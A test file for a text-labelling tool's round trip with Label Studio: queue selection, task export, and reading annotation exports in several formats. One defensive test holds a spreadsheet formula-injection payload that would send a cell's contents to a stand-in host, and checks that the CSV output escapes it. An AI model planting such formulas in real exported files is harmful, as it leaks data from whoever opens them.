"""Label Studio both ways, on real files: the labelling queue picks the least sure served texts (no feedback yet,
one per text, spread over classes) and writes tasks with the served answer as a pre-annotation and a labelling
config Label Studio accepts; its JSON export comes back through ingest's reader (latest annotation wins, skipped
tasks are not data), and an export of another kind of project is refused with a message."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET

import pandas as pd
import pytest
from helpers import wait_for

from textops.core.config import Params
from textops.core.errors import DataError, StateError
from textops.data.readers import read_labelled_file
from textops.live.labelstudio import label_queue
from textops.live.request_log import RequestLog
from textops.live.request_log_reader import read_window


def served(root, texts_kept: bool = True) -> list[str]:
    """A request log as `textops serve` writes it: 12 answers, sure to unsure, two classes, one text twice."""
    directory = root / Params().serve.request_log_dir
    log = RequestLog(directory, "jsonl", texts=texts_kept)
    log.start()
    texts = [f"review number {i}" for i in range(11)] + ["review number 0"]  # the last repeats the first
    for i, text in enumerate(texts):
        p = 0.5 + i * 0.04 if i % 2 else 0.5 + i * 0.03  # small i: the least sure
        label = "positive" if i % 2 else "negative"
        log.add(
            f"req-{i}",
            "3",
            [text],
            [{"label": label, f"prob_{label}": p, f"prob_{'negative' if i % 2 else 'positive'}": 1 - p}],
        )
    wait_for(lambda: len(read_window(directory)[0]) == len(texts), 60, "the request log written")
    log.close()
    return texts


def test_the_queue_holds_the_least_sure_texts_once_and_skips_labelled_ones(tmp_path):
    texts = served(tmp_path)
    directory = tmp_path / Params().serve.request_log_dir
    # req-1 already has a label from POST /feedback: not queued again
    (directory / "feedback-20261203T000000-1.jsonl").write_text(
        json.dumps(
            {
                "time": "2026-12-03T00:00:00.000Z",
                "request_id": "req-1",
                "index": 0,
                "label": "negative",
                "model_version": "3",
                "predicted": "positive",
            }
        )
        + "\n"
    )
    out = tmp_path / "queue" / "tasks.json"
    result = label_queue(tmp_path, Params(), 4, out)
    tasks = json.loads(out.read_text())
    assert result["rows"] == 4 == len(tasks)
    queued = [t["data"]["text"] for t in tasks]
    assert len(set(queued)) == 4 and texts[1] not in queued  # one per text; the labelled one skipped
    assert queued[0] == texts[0]  # the least sure first
    assert {t["predictions"][0]["result"][0]["value"]["choices"][0] for t in tasks} == {"negative", "positive"}
    first = tasks[0]
    assert first["data"]["request_id"] in ("req-0", "req-11") and first["predictions"][0]["model_version"] == "v3"
    config = ET.fromstring(out.with_suffix(".xml").read_text())  # Label Studio's labelling config, well formed
    assert {c.get("value") for c in config.iter("Choice")} == {"negative", "positive"}

    as_csv = label_queue(tmp_path, Params(), 4, tmp_path / "tasks.csv")
    frame = pd.read_csv(as_csv["output"])
    assert frame["text"].tolist() == queued and frame["margin"].is_monotonic_increasing


def test_a_queue_needs_logged_texts(tmp_path):
    served(tmp_path, texts_kept=False)
    with pytest.raises(StateError, match="serve.log_texts"):
        label_queue(tmp_path, Params(), 4, tmp_path / "tasks.json")
    with pytest.raises(DataError, match=".json"):
        label_queue(tmp_path, Params(), 4, tmp_path / "tasks.xlsx")


def annotation(choice: str, at: str, cancelled: bool = False) -> dict:
    return {
        "id": hash(at) % 1000,
        "was_cancelled": cancelled,
        "created_at": at,
        "updated_at": at,
        "result": [
            {
                "from_name": "label",
                "to_name": "text",
                "type": "choices",
                "value": {"choices": [choice] if choice else []},
            }
        ],
    }


def test_label_studios_export_is_read_back_by_ingest(tmp_path):
    export = [
        {
            "id": 1,
            "data": {"text": "a fine film"},
            "annotations": [
                annotation("negative", "2026-12-01T10:00:00Z"),
                annotation("positive", "2026-12-02T10:00:00Z"),
            ],
        },
        {
            "id": 2,
            "data": {"text": "skipped by the reviewer"},
            "annotations": [annotation("negative", "2026-12-01T10:00:00Z", cancelled=True)],
        },
        {"id": 3, "data": {"text": "not looked at yet"}, "annotations": [], "predictions": []},
        {"id": 4, "data": {"text": "a dull film"}, "annotations": [annotation("negative", "2026-12-01T11:00:00Z")]},
    ]
    path = tmp_path / "project-1-at-2026-12-03.json"
    path.write_text(json.dumps(export))
    frame = read_labelled_file(path, "text", "label", max_file_mb=10)
    assert frame[["text", "label"]].values.tolist() == [["a fine film", "positive"], ["a dull film", "negative"]]
    assert [t["task"] for t in frame.attrs["tasks"]] == [1, 4] and frame.attrs["format"] == "labelstudio"

    multi = [{"id": 5, "data": {"text": "x"}, "annotations": [annotation("negative", "2026-12-01T10:00:00Z")]}]
    multi[0]["annotations"][0]["result"][0]["value"]["choices"] = ["negative", "positive"]
    path.write_text(json.dumps(multi))
    with pytest.raises(DataError, match="single-choice"):
        read_labelled_file(path, "text", "label", max_file_mb=10)
    path.write_text(json.dumps({"not": "a list"}))
    with pytest.raises(DataError, match="Label Studio export"):
        read_labelled_file(path, "text", "label", max_file_mb=10)


def test_the_queue_csv_shows_a_formula_text_instead_of_running_it(tmp_path):
    directory = tmp_path / Params().serve.request_log_dir
    log = RequestLog(directory, "jsonl", texts=True)
    log.start()
    texts = ['=HYPERLINK("http://example.invalid/?x="&A1, "see")', "a fine film", "a dull film"]
    for i, text in enumerate(texts):
        log.add(f"req-{i}", "3", [text], [{"label": "positive", "prob_positive": 0.55, "prob_negative": 0.45}])
    wait_for(lambda: len(read_window(directory)[0]) == len(texts), 60, "the request log written")
    log.close()
    as_csv = label_queue(tmp_path, Params(), 3, tmp_path / "tasks.csv")
    written = pd.read_csv(as_csv["output"])["text"].tolist()
    assert sorted(written) == sorted(["'" + texts[0], texts[1], texts[2]])  # the formula shown, not run
    as_json = label_queue(tmp_path, Params(), 3, tmp_path / "tasks.json")  # Label Studio's tasks: the text itself
    assert texts[0] in {t["data"]["text"] for t in json.loads(open(as_json["output"]).read())}


def test_the_latest_annotation_wins_by_time_and_json_min_and_deep_exports_are_read(tmp_path):
    # Compared as strings, "10:00:00Z" sorts after "10:00:00.500Z" and the older label would win.
    older, newer = annotation("negative", "2026-12-01T10:00:00Z"), annotation("positive", "2026-12-01T10:00:00.500Z")
    path = tmp_path / "export.json"
    path.write_text(json.dumps([{"id": 1, "data": {"text": "a fine film"}, "annotations": [older, newer]}]))
    assert read_labelled_file(path, "text", "label", max_file_mb=10)["label"].tolist() == ["positive"]

    # JSON_MIN: flat tasks, the choice under the control's name; an unlabelled task is no data.
    minimal = [
        {"id": 1, "text": "a fine film", "label": "positive", "annotator": 1, "updated_at": "2026-12-01T10:00:00Z"},
        {"id": 2, "text": "a dull film", "label": "negative", "annotator": 1},
        {"id": 3, "text": "nobody looked"},
    ]
    path.write_text(json.dumps(minimal))
    frame = read_labelled_file(path, "text", "label", max_file_mb=10)
    assert frame[["text", "label"]].values.tolist() == [["a fine film", "positive"], ["a dull film", "negative"]]

    path.write_text("[" * 10_000 + "]" * 10_000)
    with pytest.raises(DataError, match="nests 10,000 levels deep, too deep to be a Label Studio export"):
        read_labelled_file(path, "text", "label", max_file_mb=10)


@pytest.mark.parametrize("sep, suffix", [(",", ".csv"), ("\t", ".tsv")])
def test_a_csv_or_tsv_export_gives_one_row_per_task_its_latest_annotation(tmp_path, sep, suffix):
    # Label Studio's CSV/TSV export: the task's data, its id, the choice, and one row per annotation.
    rows = [
        # task 1, annotated twice: the later one (by parsed time: 10:00:00Z is after 09:59:59.5Z) wins
        ("a fine film", 1, "positive", 2, 11, "2026-12-01T10:00:00Z", "2026-12-01T10:00:00Z"),
        ("a fine film", 1, "negative", 3, 10, "2026-12-01T09:59:59.500000Z", "2026-12-01T09:59:59.500000Z"),
        ("a dull, long film", 2, "negative", 2, 12, "2026-12-01T11:00:00Z", "2026-12-01T11:00:00Z"),
        ("a film that says\nit all twice", 3, "positive", 3, 13, "2026-12-01T12:00:00Z", "2026-12-01T12:00:00Z"),
        ("a film that says\nit all twice", 3, "", 2, 14, "2026-12-01T13:00:00Z", "2026-12-01T13:00:00Z"),
    ]
    columns = ["text", "id", "label", "annotator", "annotation_id", "created_at", "updated_at"]
    path = tmp_path / f"project-1-at-2026-12-03{suffix}"
    pd.DataFrame(rows, columns=columns).to_csv(path, sep=sep, index=False)
    frame = read_labelled_file(path, "text", "label", max_file_mb=10, max_invalid_fraction=0.5)
    assert frame[["text", "label"]].values.tolist() == [["a fine film", "positive"], ["a dull, long film", "negative"]]
    # Which task and annotator each kept row came from, for the batch's provenance file: numbers, as JSON has them.
    assert [(t["task"], t["annotator"]) for t in frame.attrs["tasks"]] == [(1, 2), (2, 2)]
    # Task 3's latest annotation has no choice: it is left out, and its line is where its row starts.
    assert frame.attrs["dropped_lines"] == [7]

    # A plain CSV that happens to have an `id` column is not touched.
    pd.DataFrame({"text": ["x y z", "x y z"], "label": ["a", "b"], "id": [1, 1]}).to_csv(path, sep=sep, index=False)
    assert len(read_labelled_file(path, "text", "label", max_file_mb=10)) == 2


def test_a_json_min_export_gives_one_row_per_task_its_latest_annotation(tmp_path):
    # As Label Studio 1.23.2 writes JSON_MIN (seen on a real server): one entry per annotation, the task's data
    # beside the choice. Task 2 was annotated twice; task 3's first annotation was edited after its second, so it
    # is the latest by time though its annotation id is the lower one.
    def entry(task, text, label, annotation_id, created, updated):
        return {
            "text": text,
            "request_id": f"req-{task}",
            "index": 0,
            "id": task,
            "label": label,
            "annotator": 1,
            "annotation_id": annotation_id,
            "created_at": f"2026-12-07T18:45:{created}Z",
            "updated_at": f"2026-12-07T18:45:{updated}Z",
            "lead_time": None,
        }

    export = [
        entry(1, "a fine film", "positive", 1, "33.773096", "33.773129"),
        entry(2, "a dull film", "negative", 3, "35.185547", "35.185570"),  # the later of task 2's two
        entry(2, "a dull film", "positive", 2, "33.931195", "33.931221"),
        entry(3, "a long film", "positive", 4, "35.379106", "37.156850"),  # edited last: it wins
        entry(3, "a long film", "negative", 5, "36.000000", "36.000000"),
    ]
    path = tmp_path / "project-1-at-2026-12-07-18-45-5968d6f2.json"
    path.write_text(json.dumps(export))
    frame = read_labelled_file(path, "text", "label", max_file_mb=10)
    assert frame[["text", "label"]].values.tolist() == [
        ["a fine film", "positive"],
        ["a dull film", "negative"],
        ["a long film", "positive"],
    ]
    assert [(t["task"], t["request_id"]) for t in frame.attrs["tasks"]] == [(1, "req-1"), (2, "req-2"), (3, "req-3")]


def test_a_tsv_export_under_the_csv_name_label_studio_gives_it_is_read_as_tsv(tmp_path):
    # Label Studio 1.23.2 serves its TSV export as `project-<id>-at-<time>.csv` (seen on a real server): kept under
    # that name, it is tab-separated rows in a .csv file, every cell quoted, a text with commas and quotes.
    header = ["annotation_id", "annotator", "created_at", "id", "label", "request_id", "text", "updated_at"]
    rows = [
        [3, "1", "2026-12-07T18:45:35.185547Z", 2, "positive", "req-1", 'a "fine", long film', "2026-12-07T18:45:35Z"],
        [2, "1", "2026-12-07T18:45:33.931195Z", 2, "negative", "req-1", 'a "fine", long film', "2026-12-07T18:45:34Z"],
        [4, "1", "2026-12-07T18:45:35.379106Z", 3, "negative", "req-2", "a dull film, sadly", "2026-12-07T18:45:37Z"],
    ]
    path = tmp_path / "project-1-at-2026-12-07-18-45-5968d6f2.csv"
    pd.DataFrame(rows, columns=header).to_csv(path, sep="\t", index=False, quoting=1)
    frame = read_labelled_file(path, "text", "label", max_file_mb=10)
    assert frame[["text", "label"]].values.tolist() == [
        ['a "fine", long film', "positive"],
        ["a dull film, sadly", "negative"],
    ]
    assert [t["request_id"] for t in frame.attrs["tasks"]] == ["req-1", "req-2"] and frame.attrs["lines"] == [2, 4]

    # A CSV with a tab in its header is still a CSV unless the tabs make it a Label Studio export.
    pd.DataFrame({"text\tbody": ["x, y"], "label": ["a"]}).to_csv(path, index=False)
    assert read_labelled_file(path, "text\tbody", "label", max_file_mb=10)["label"].tolist() == ["a"]
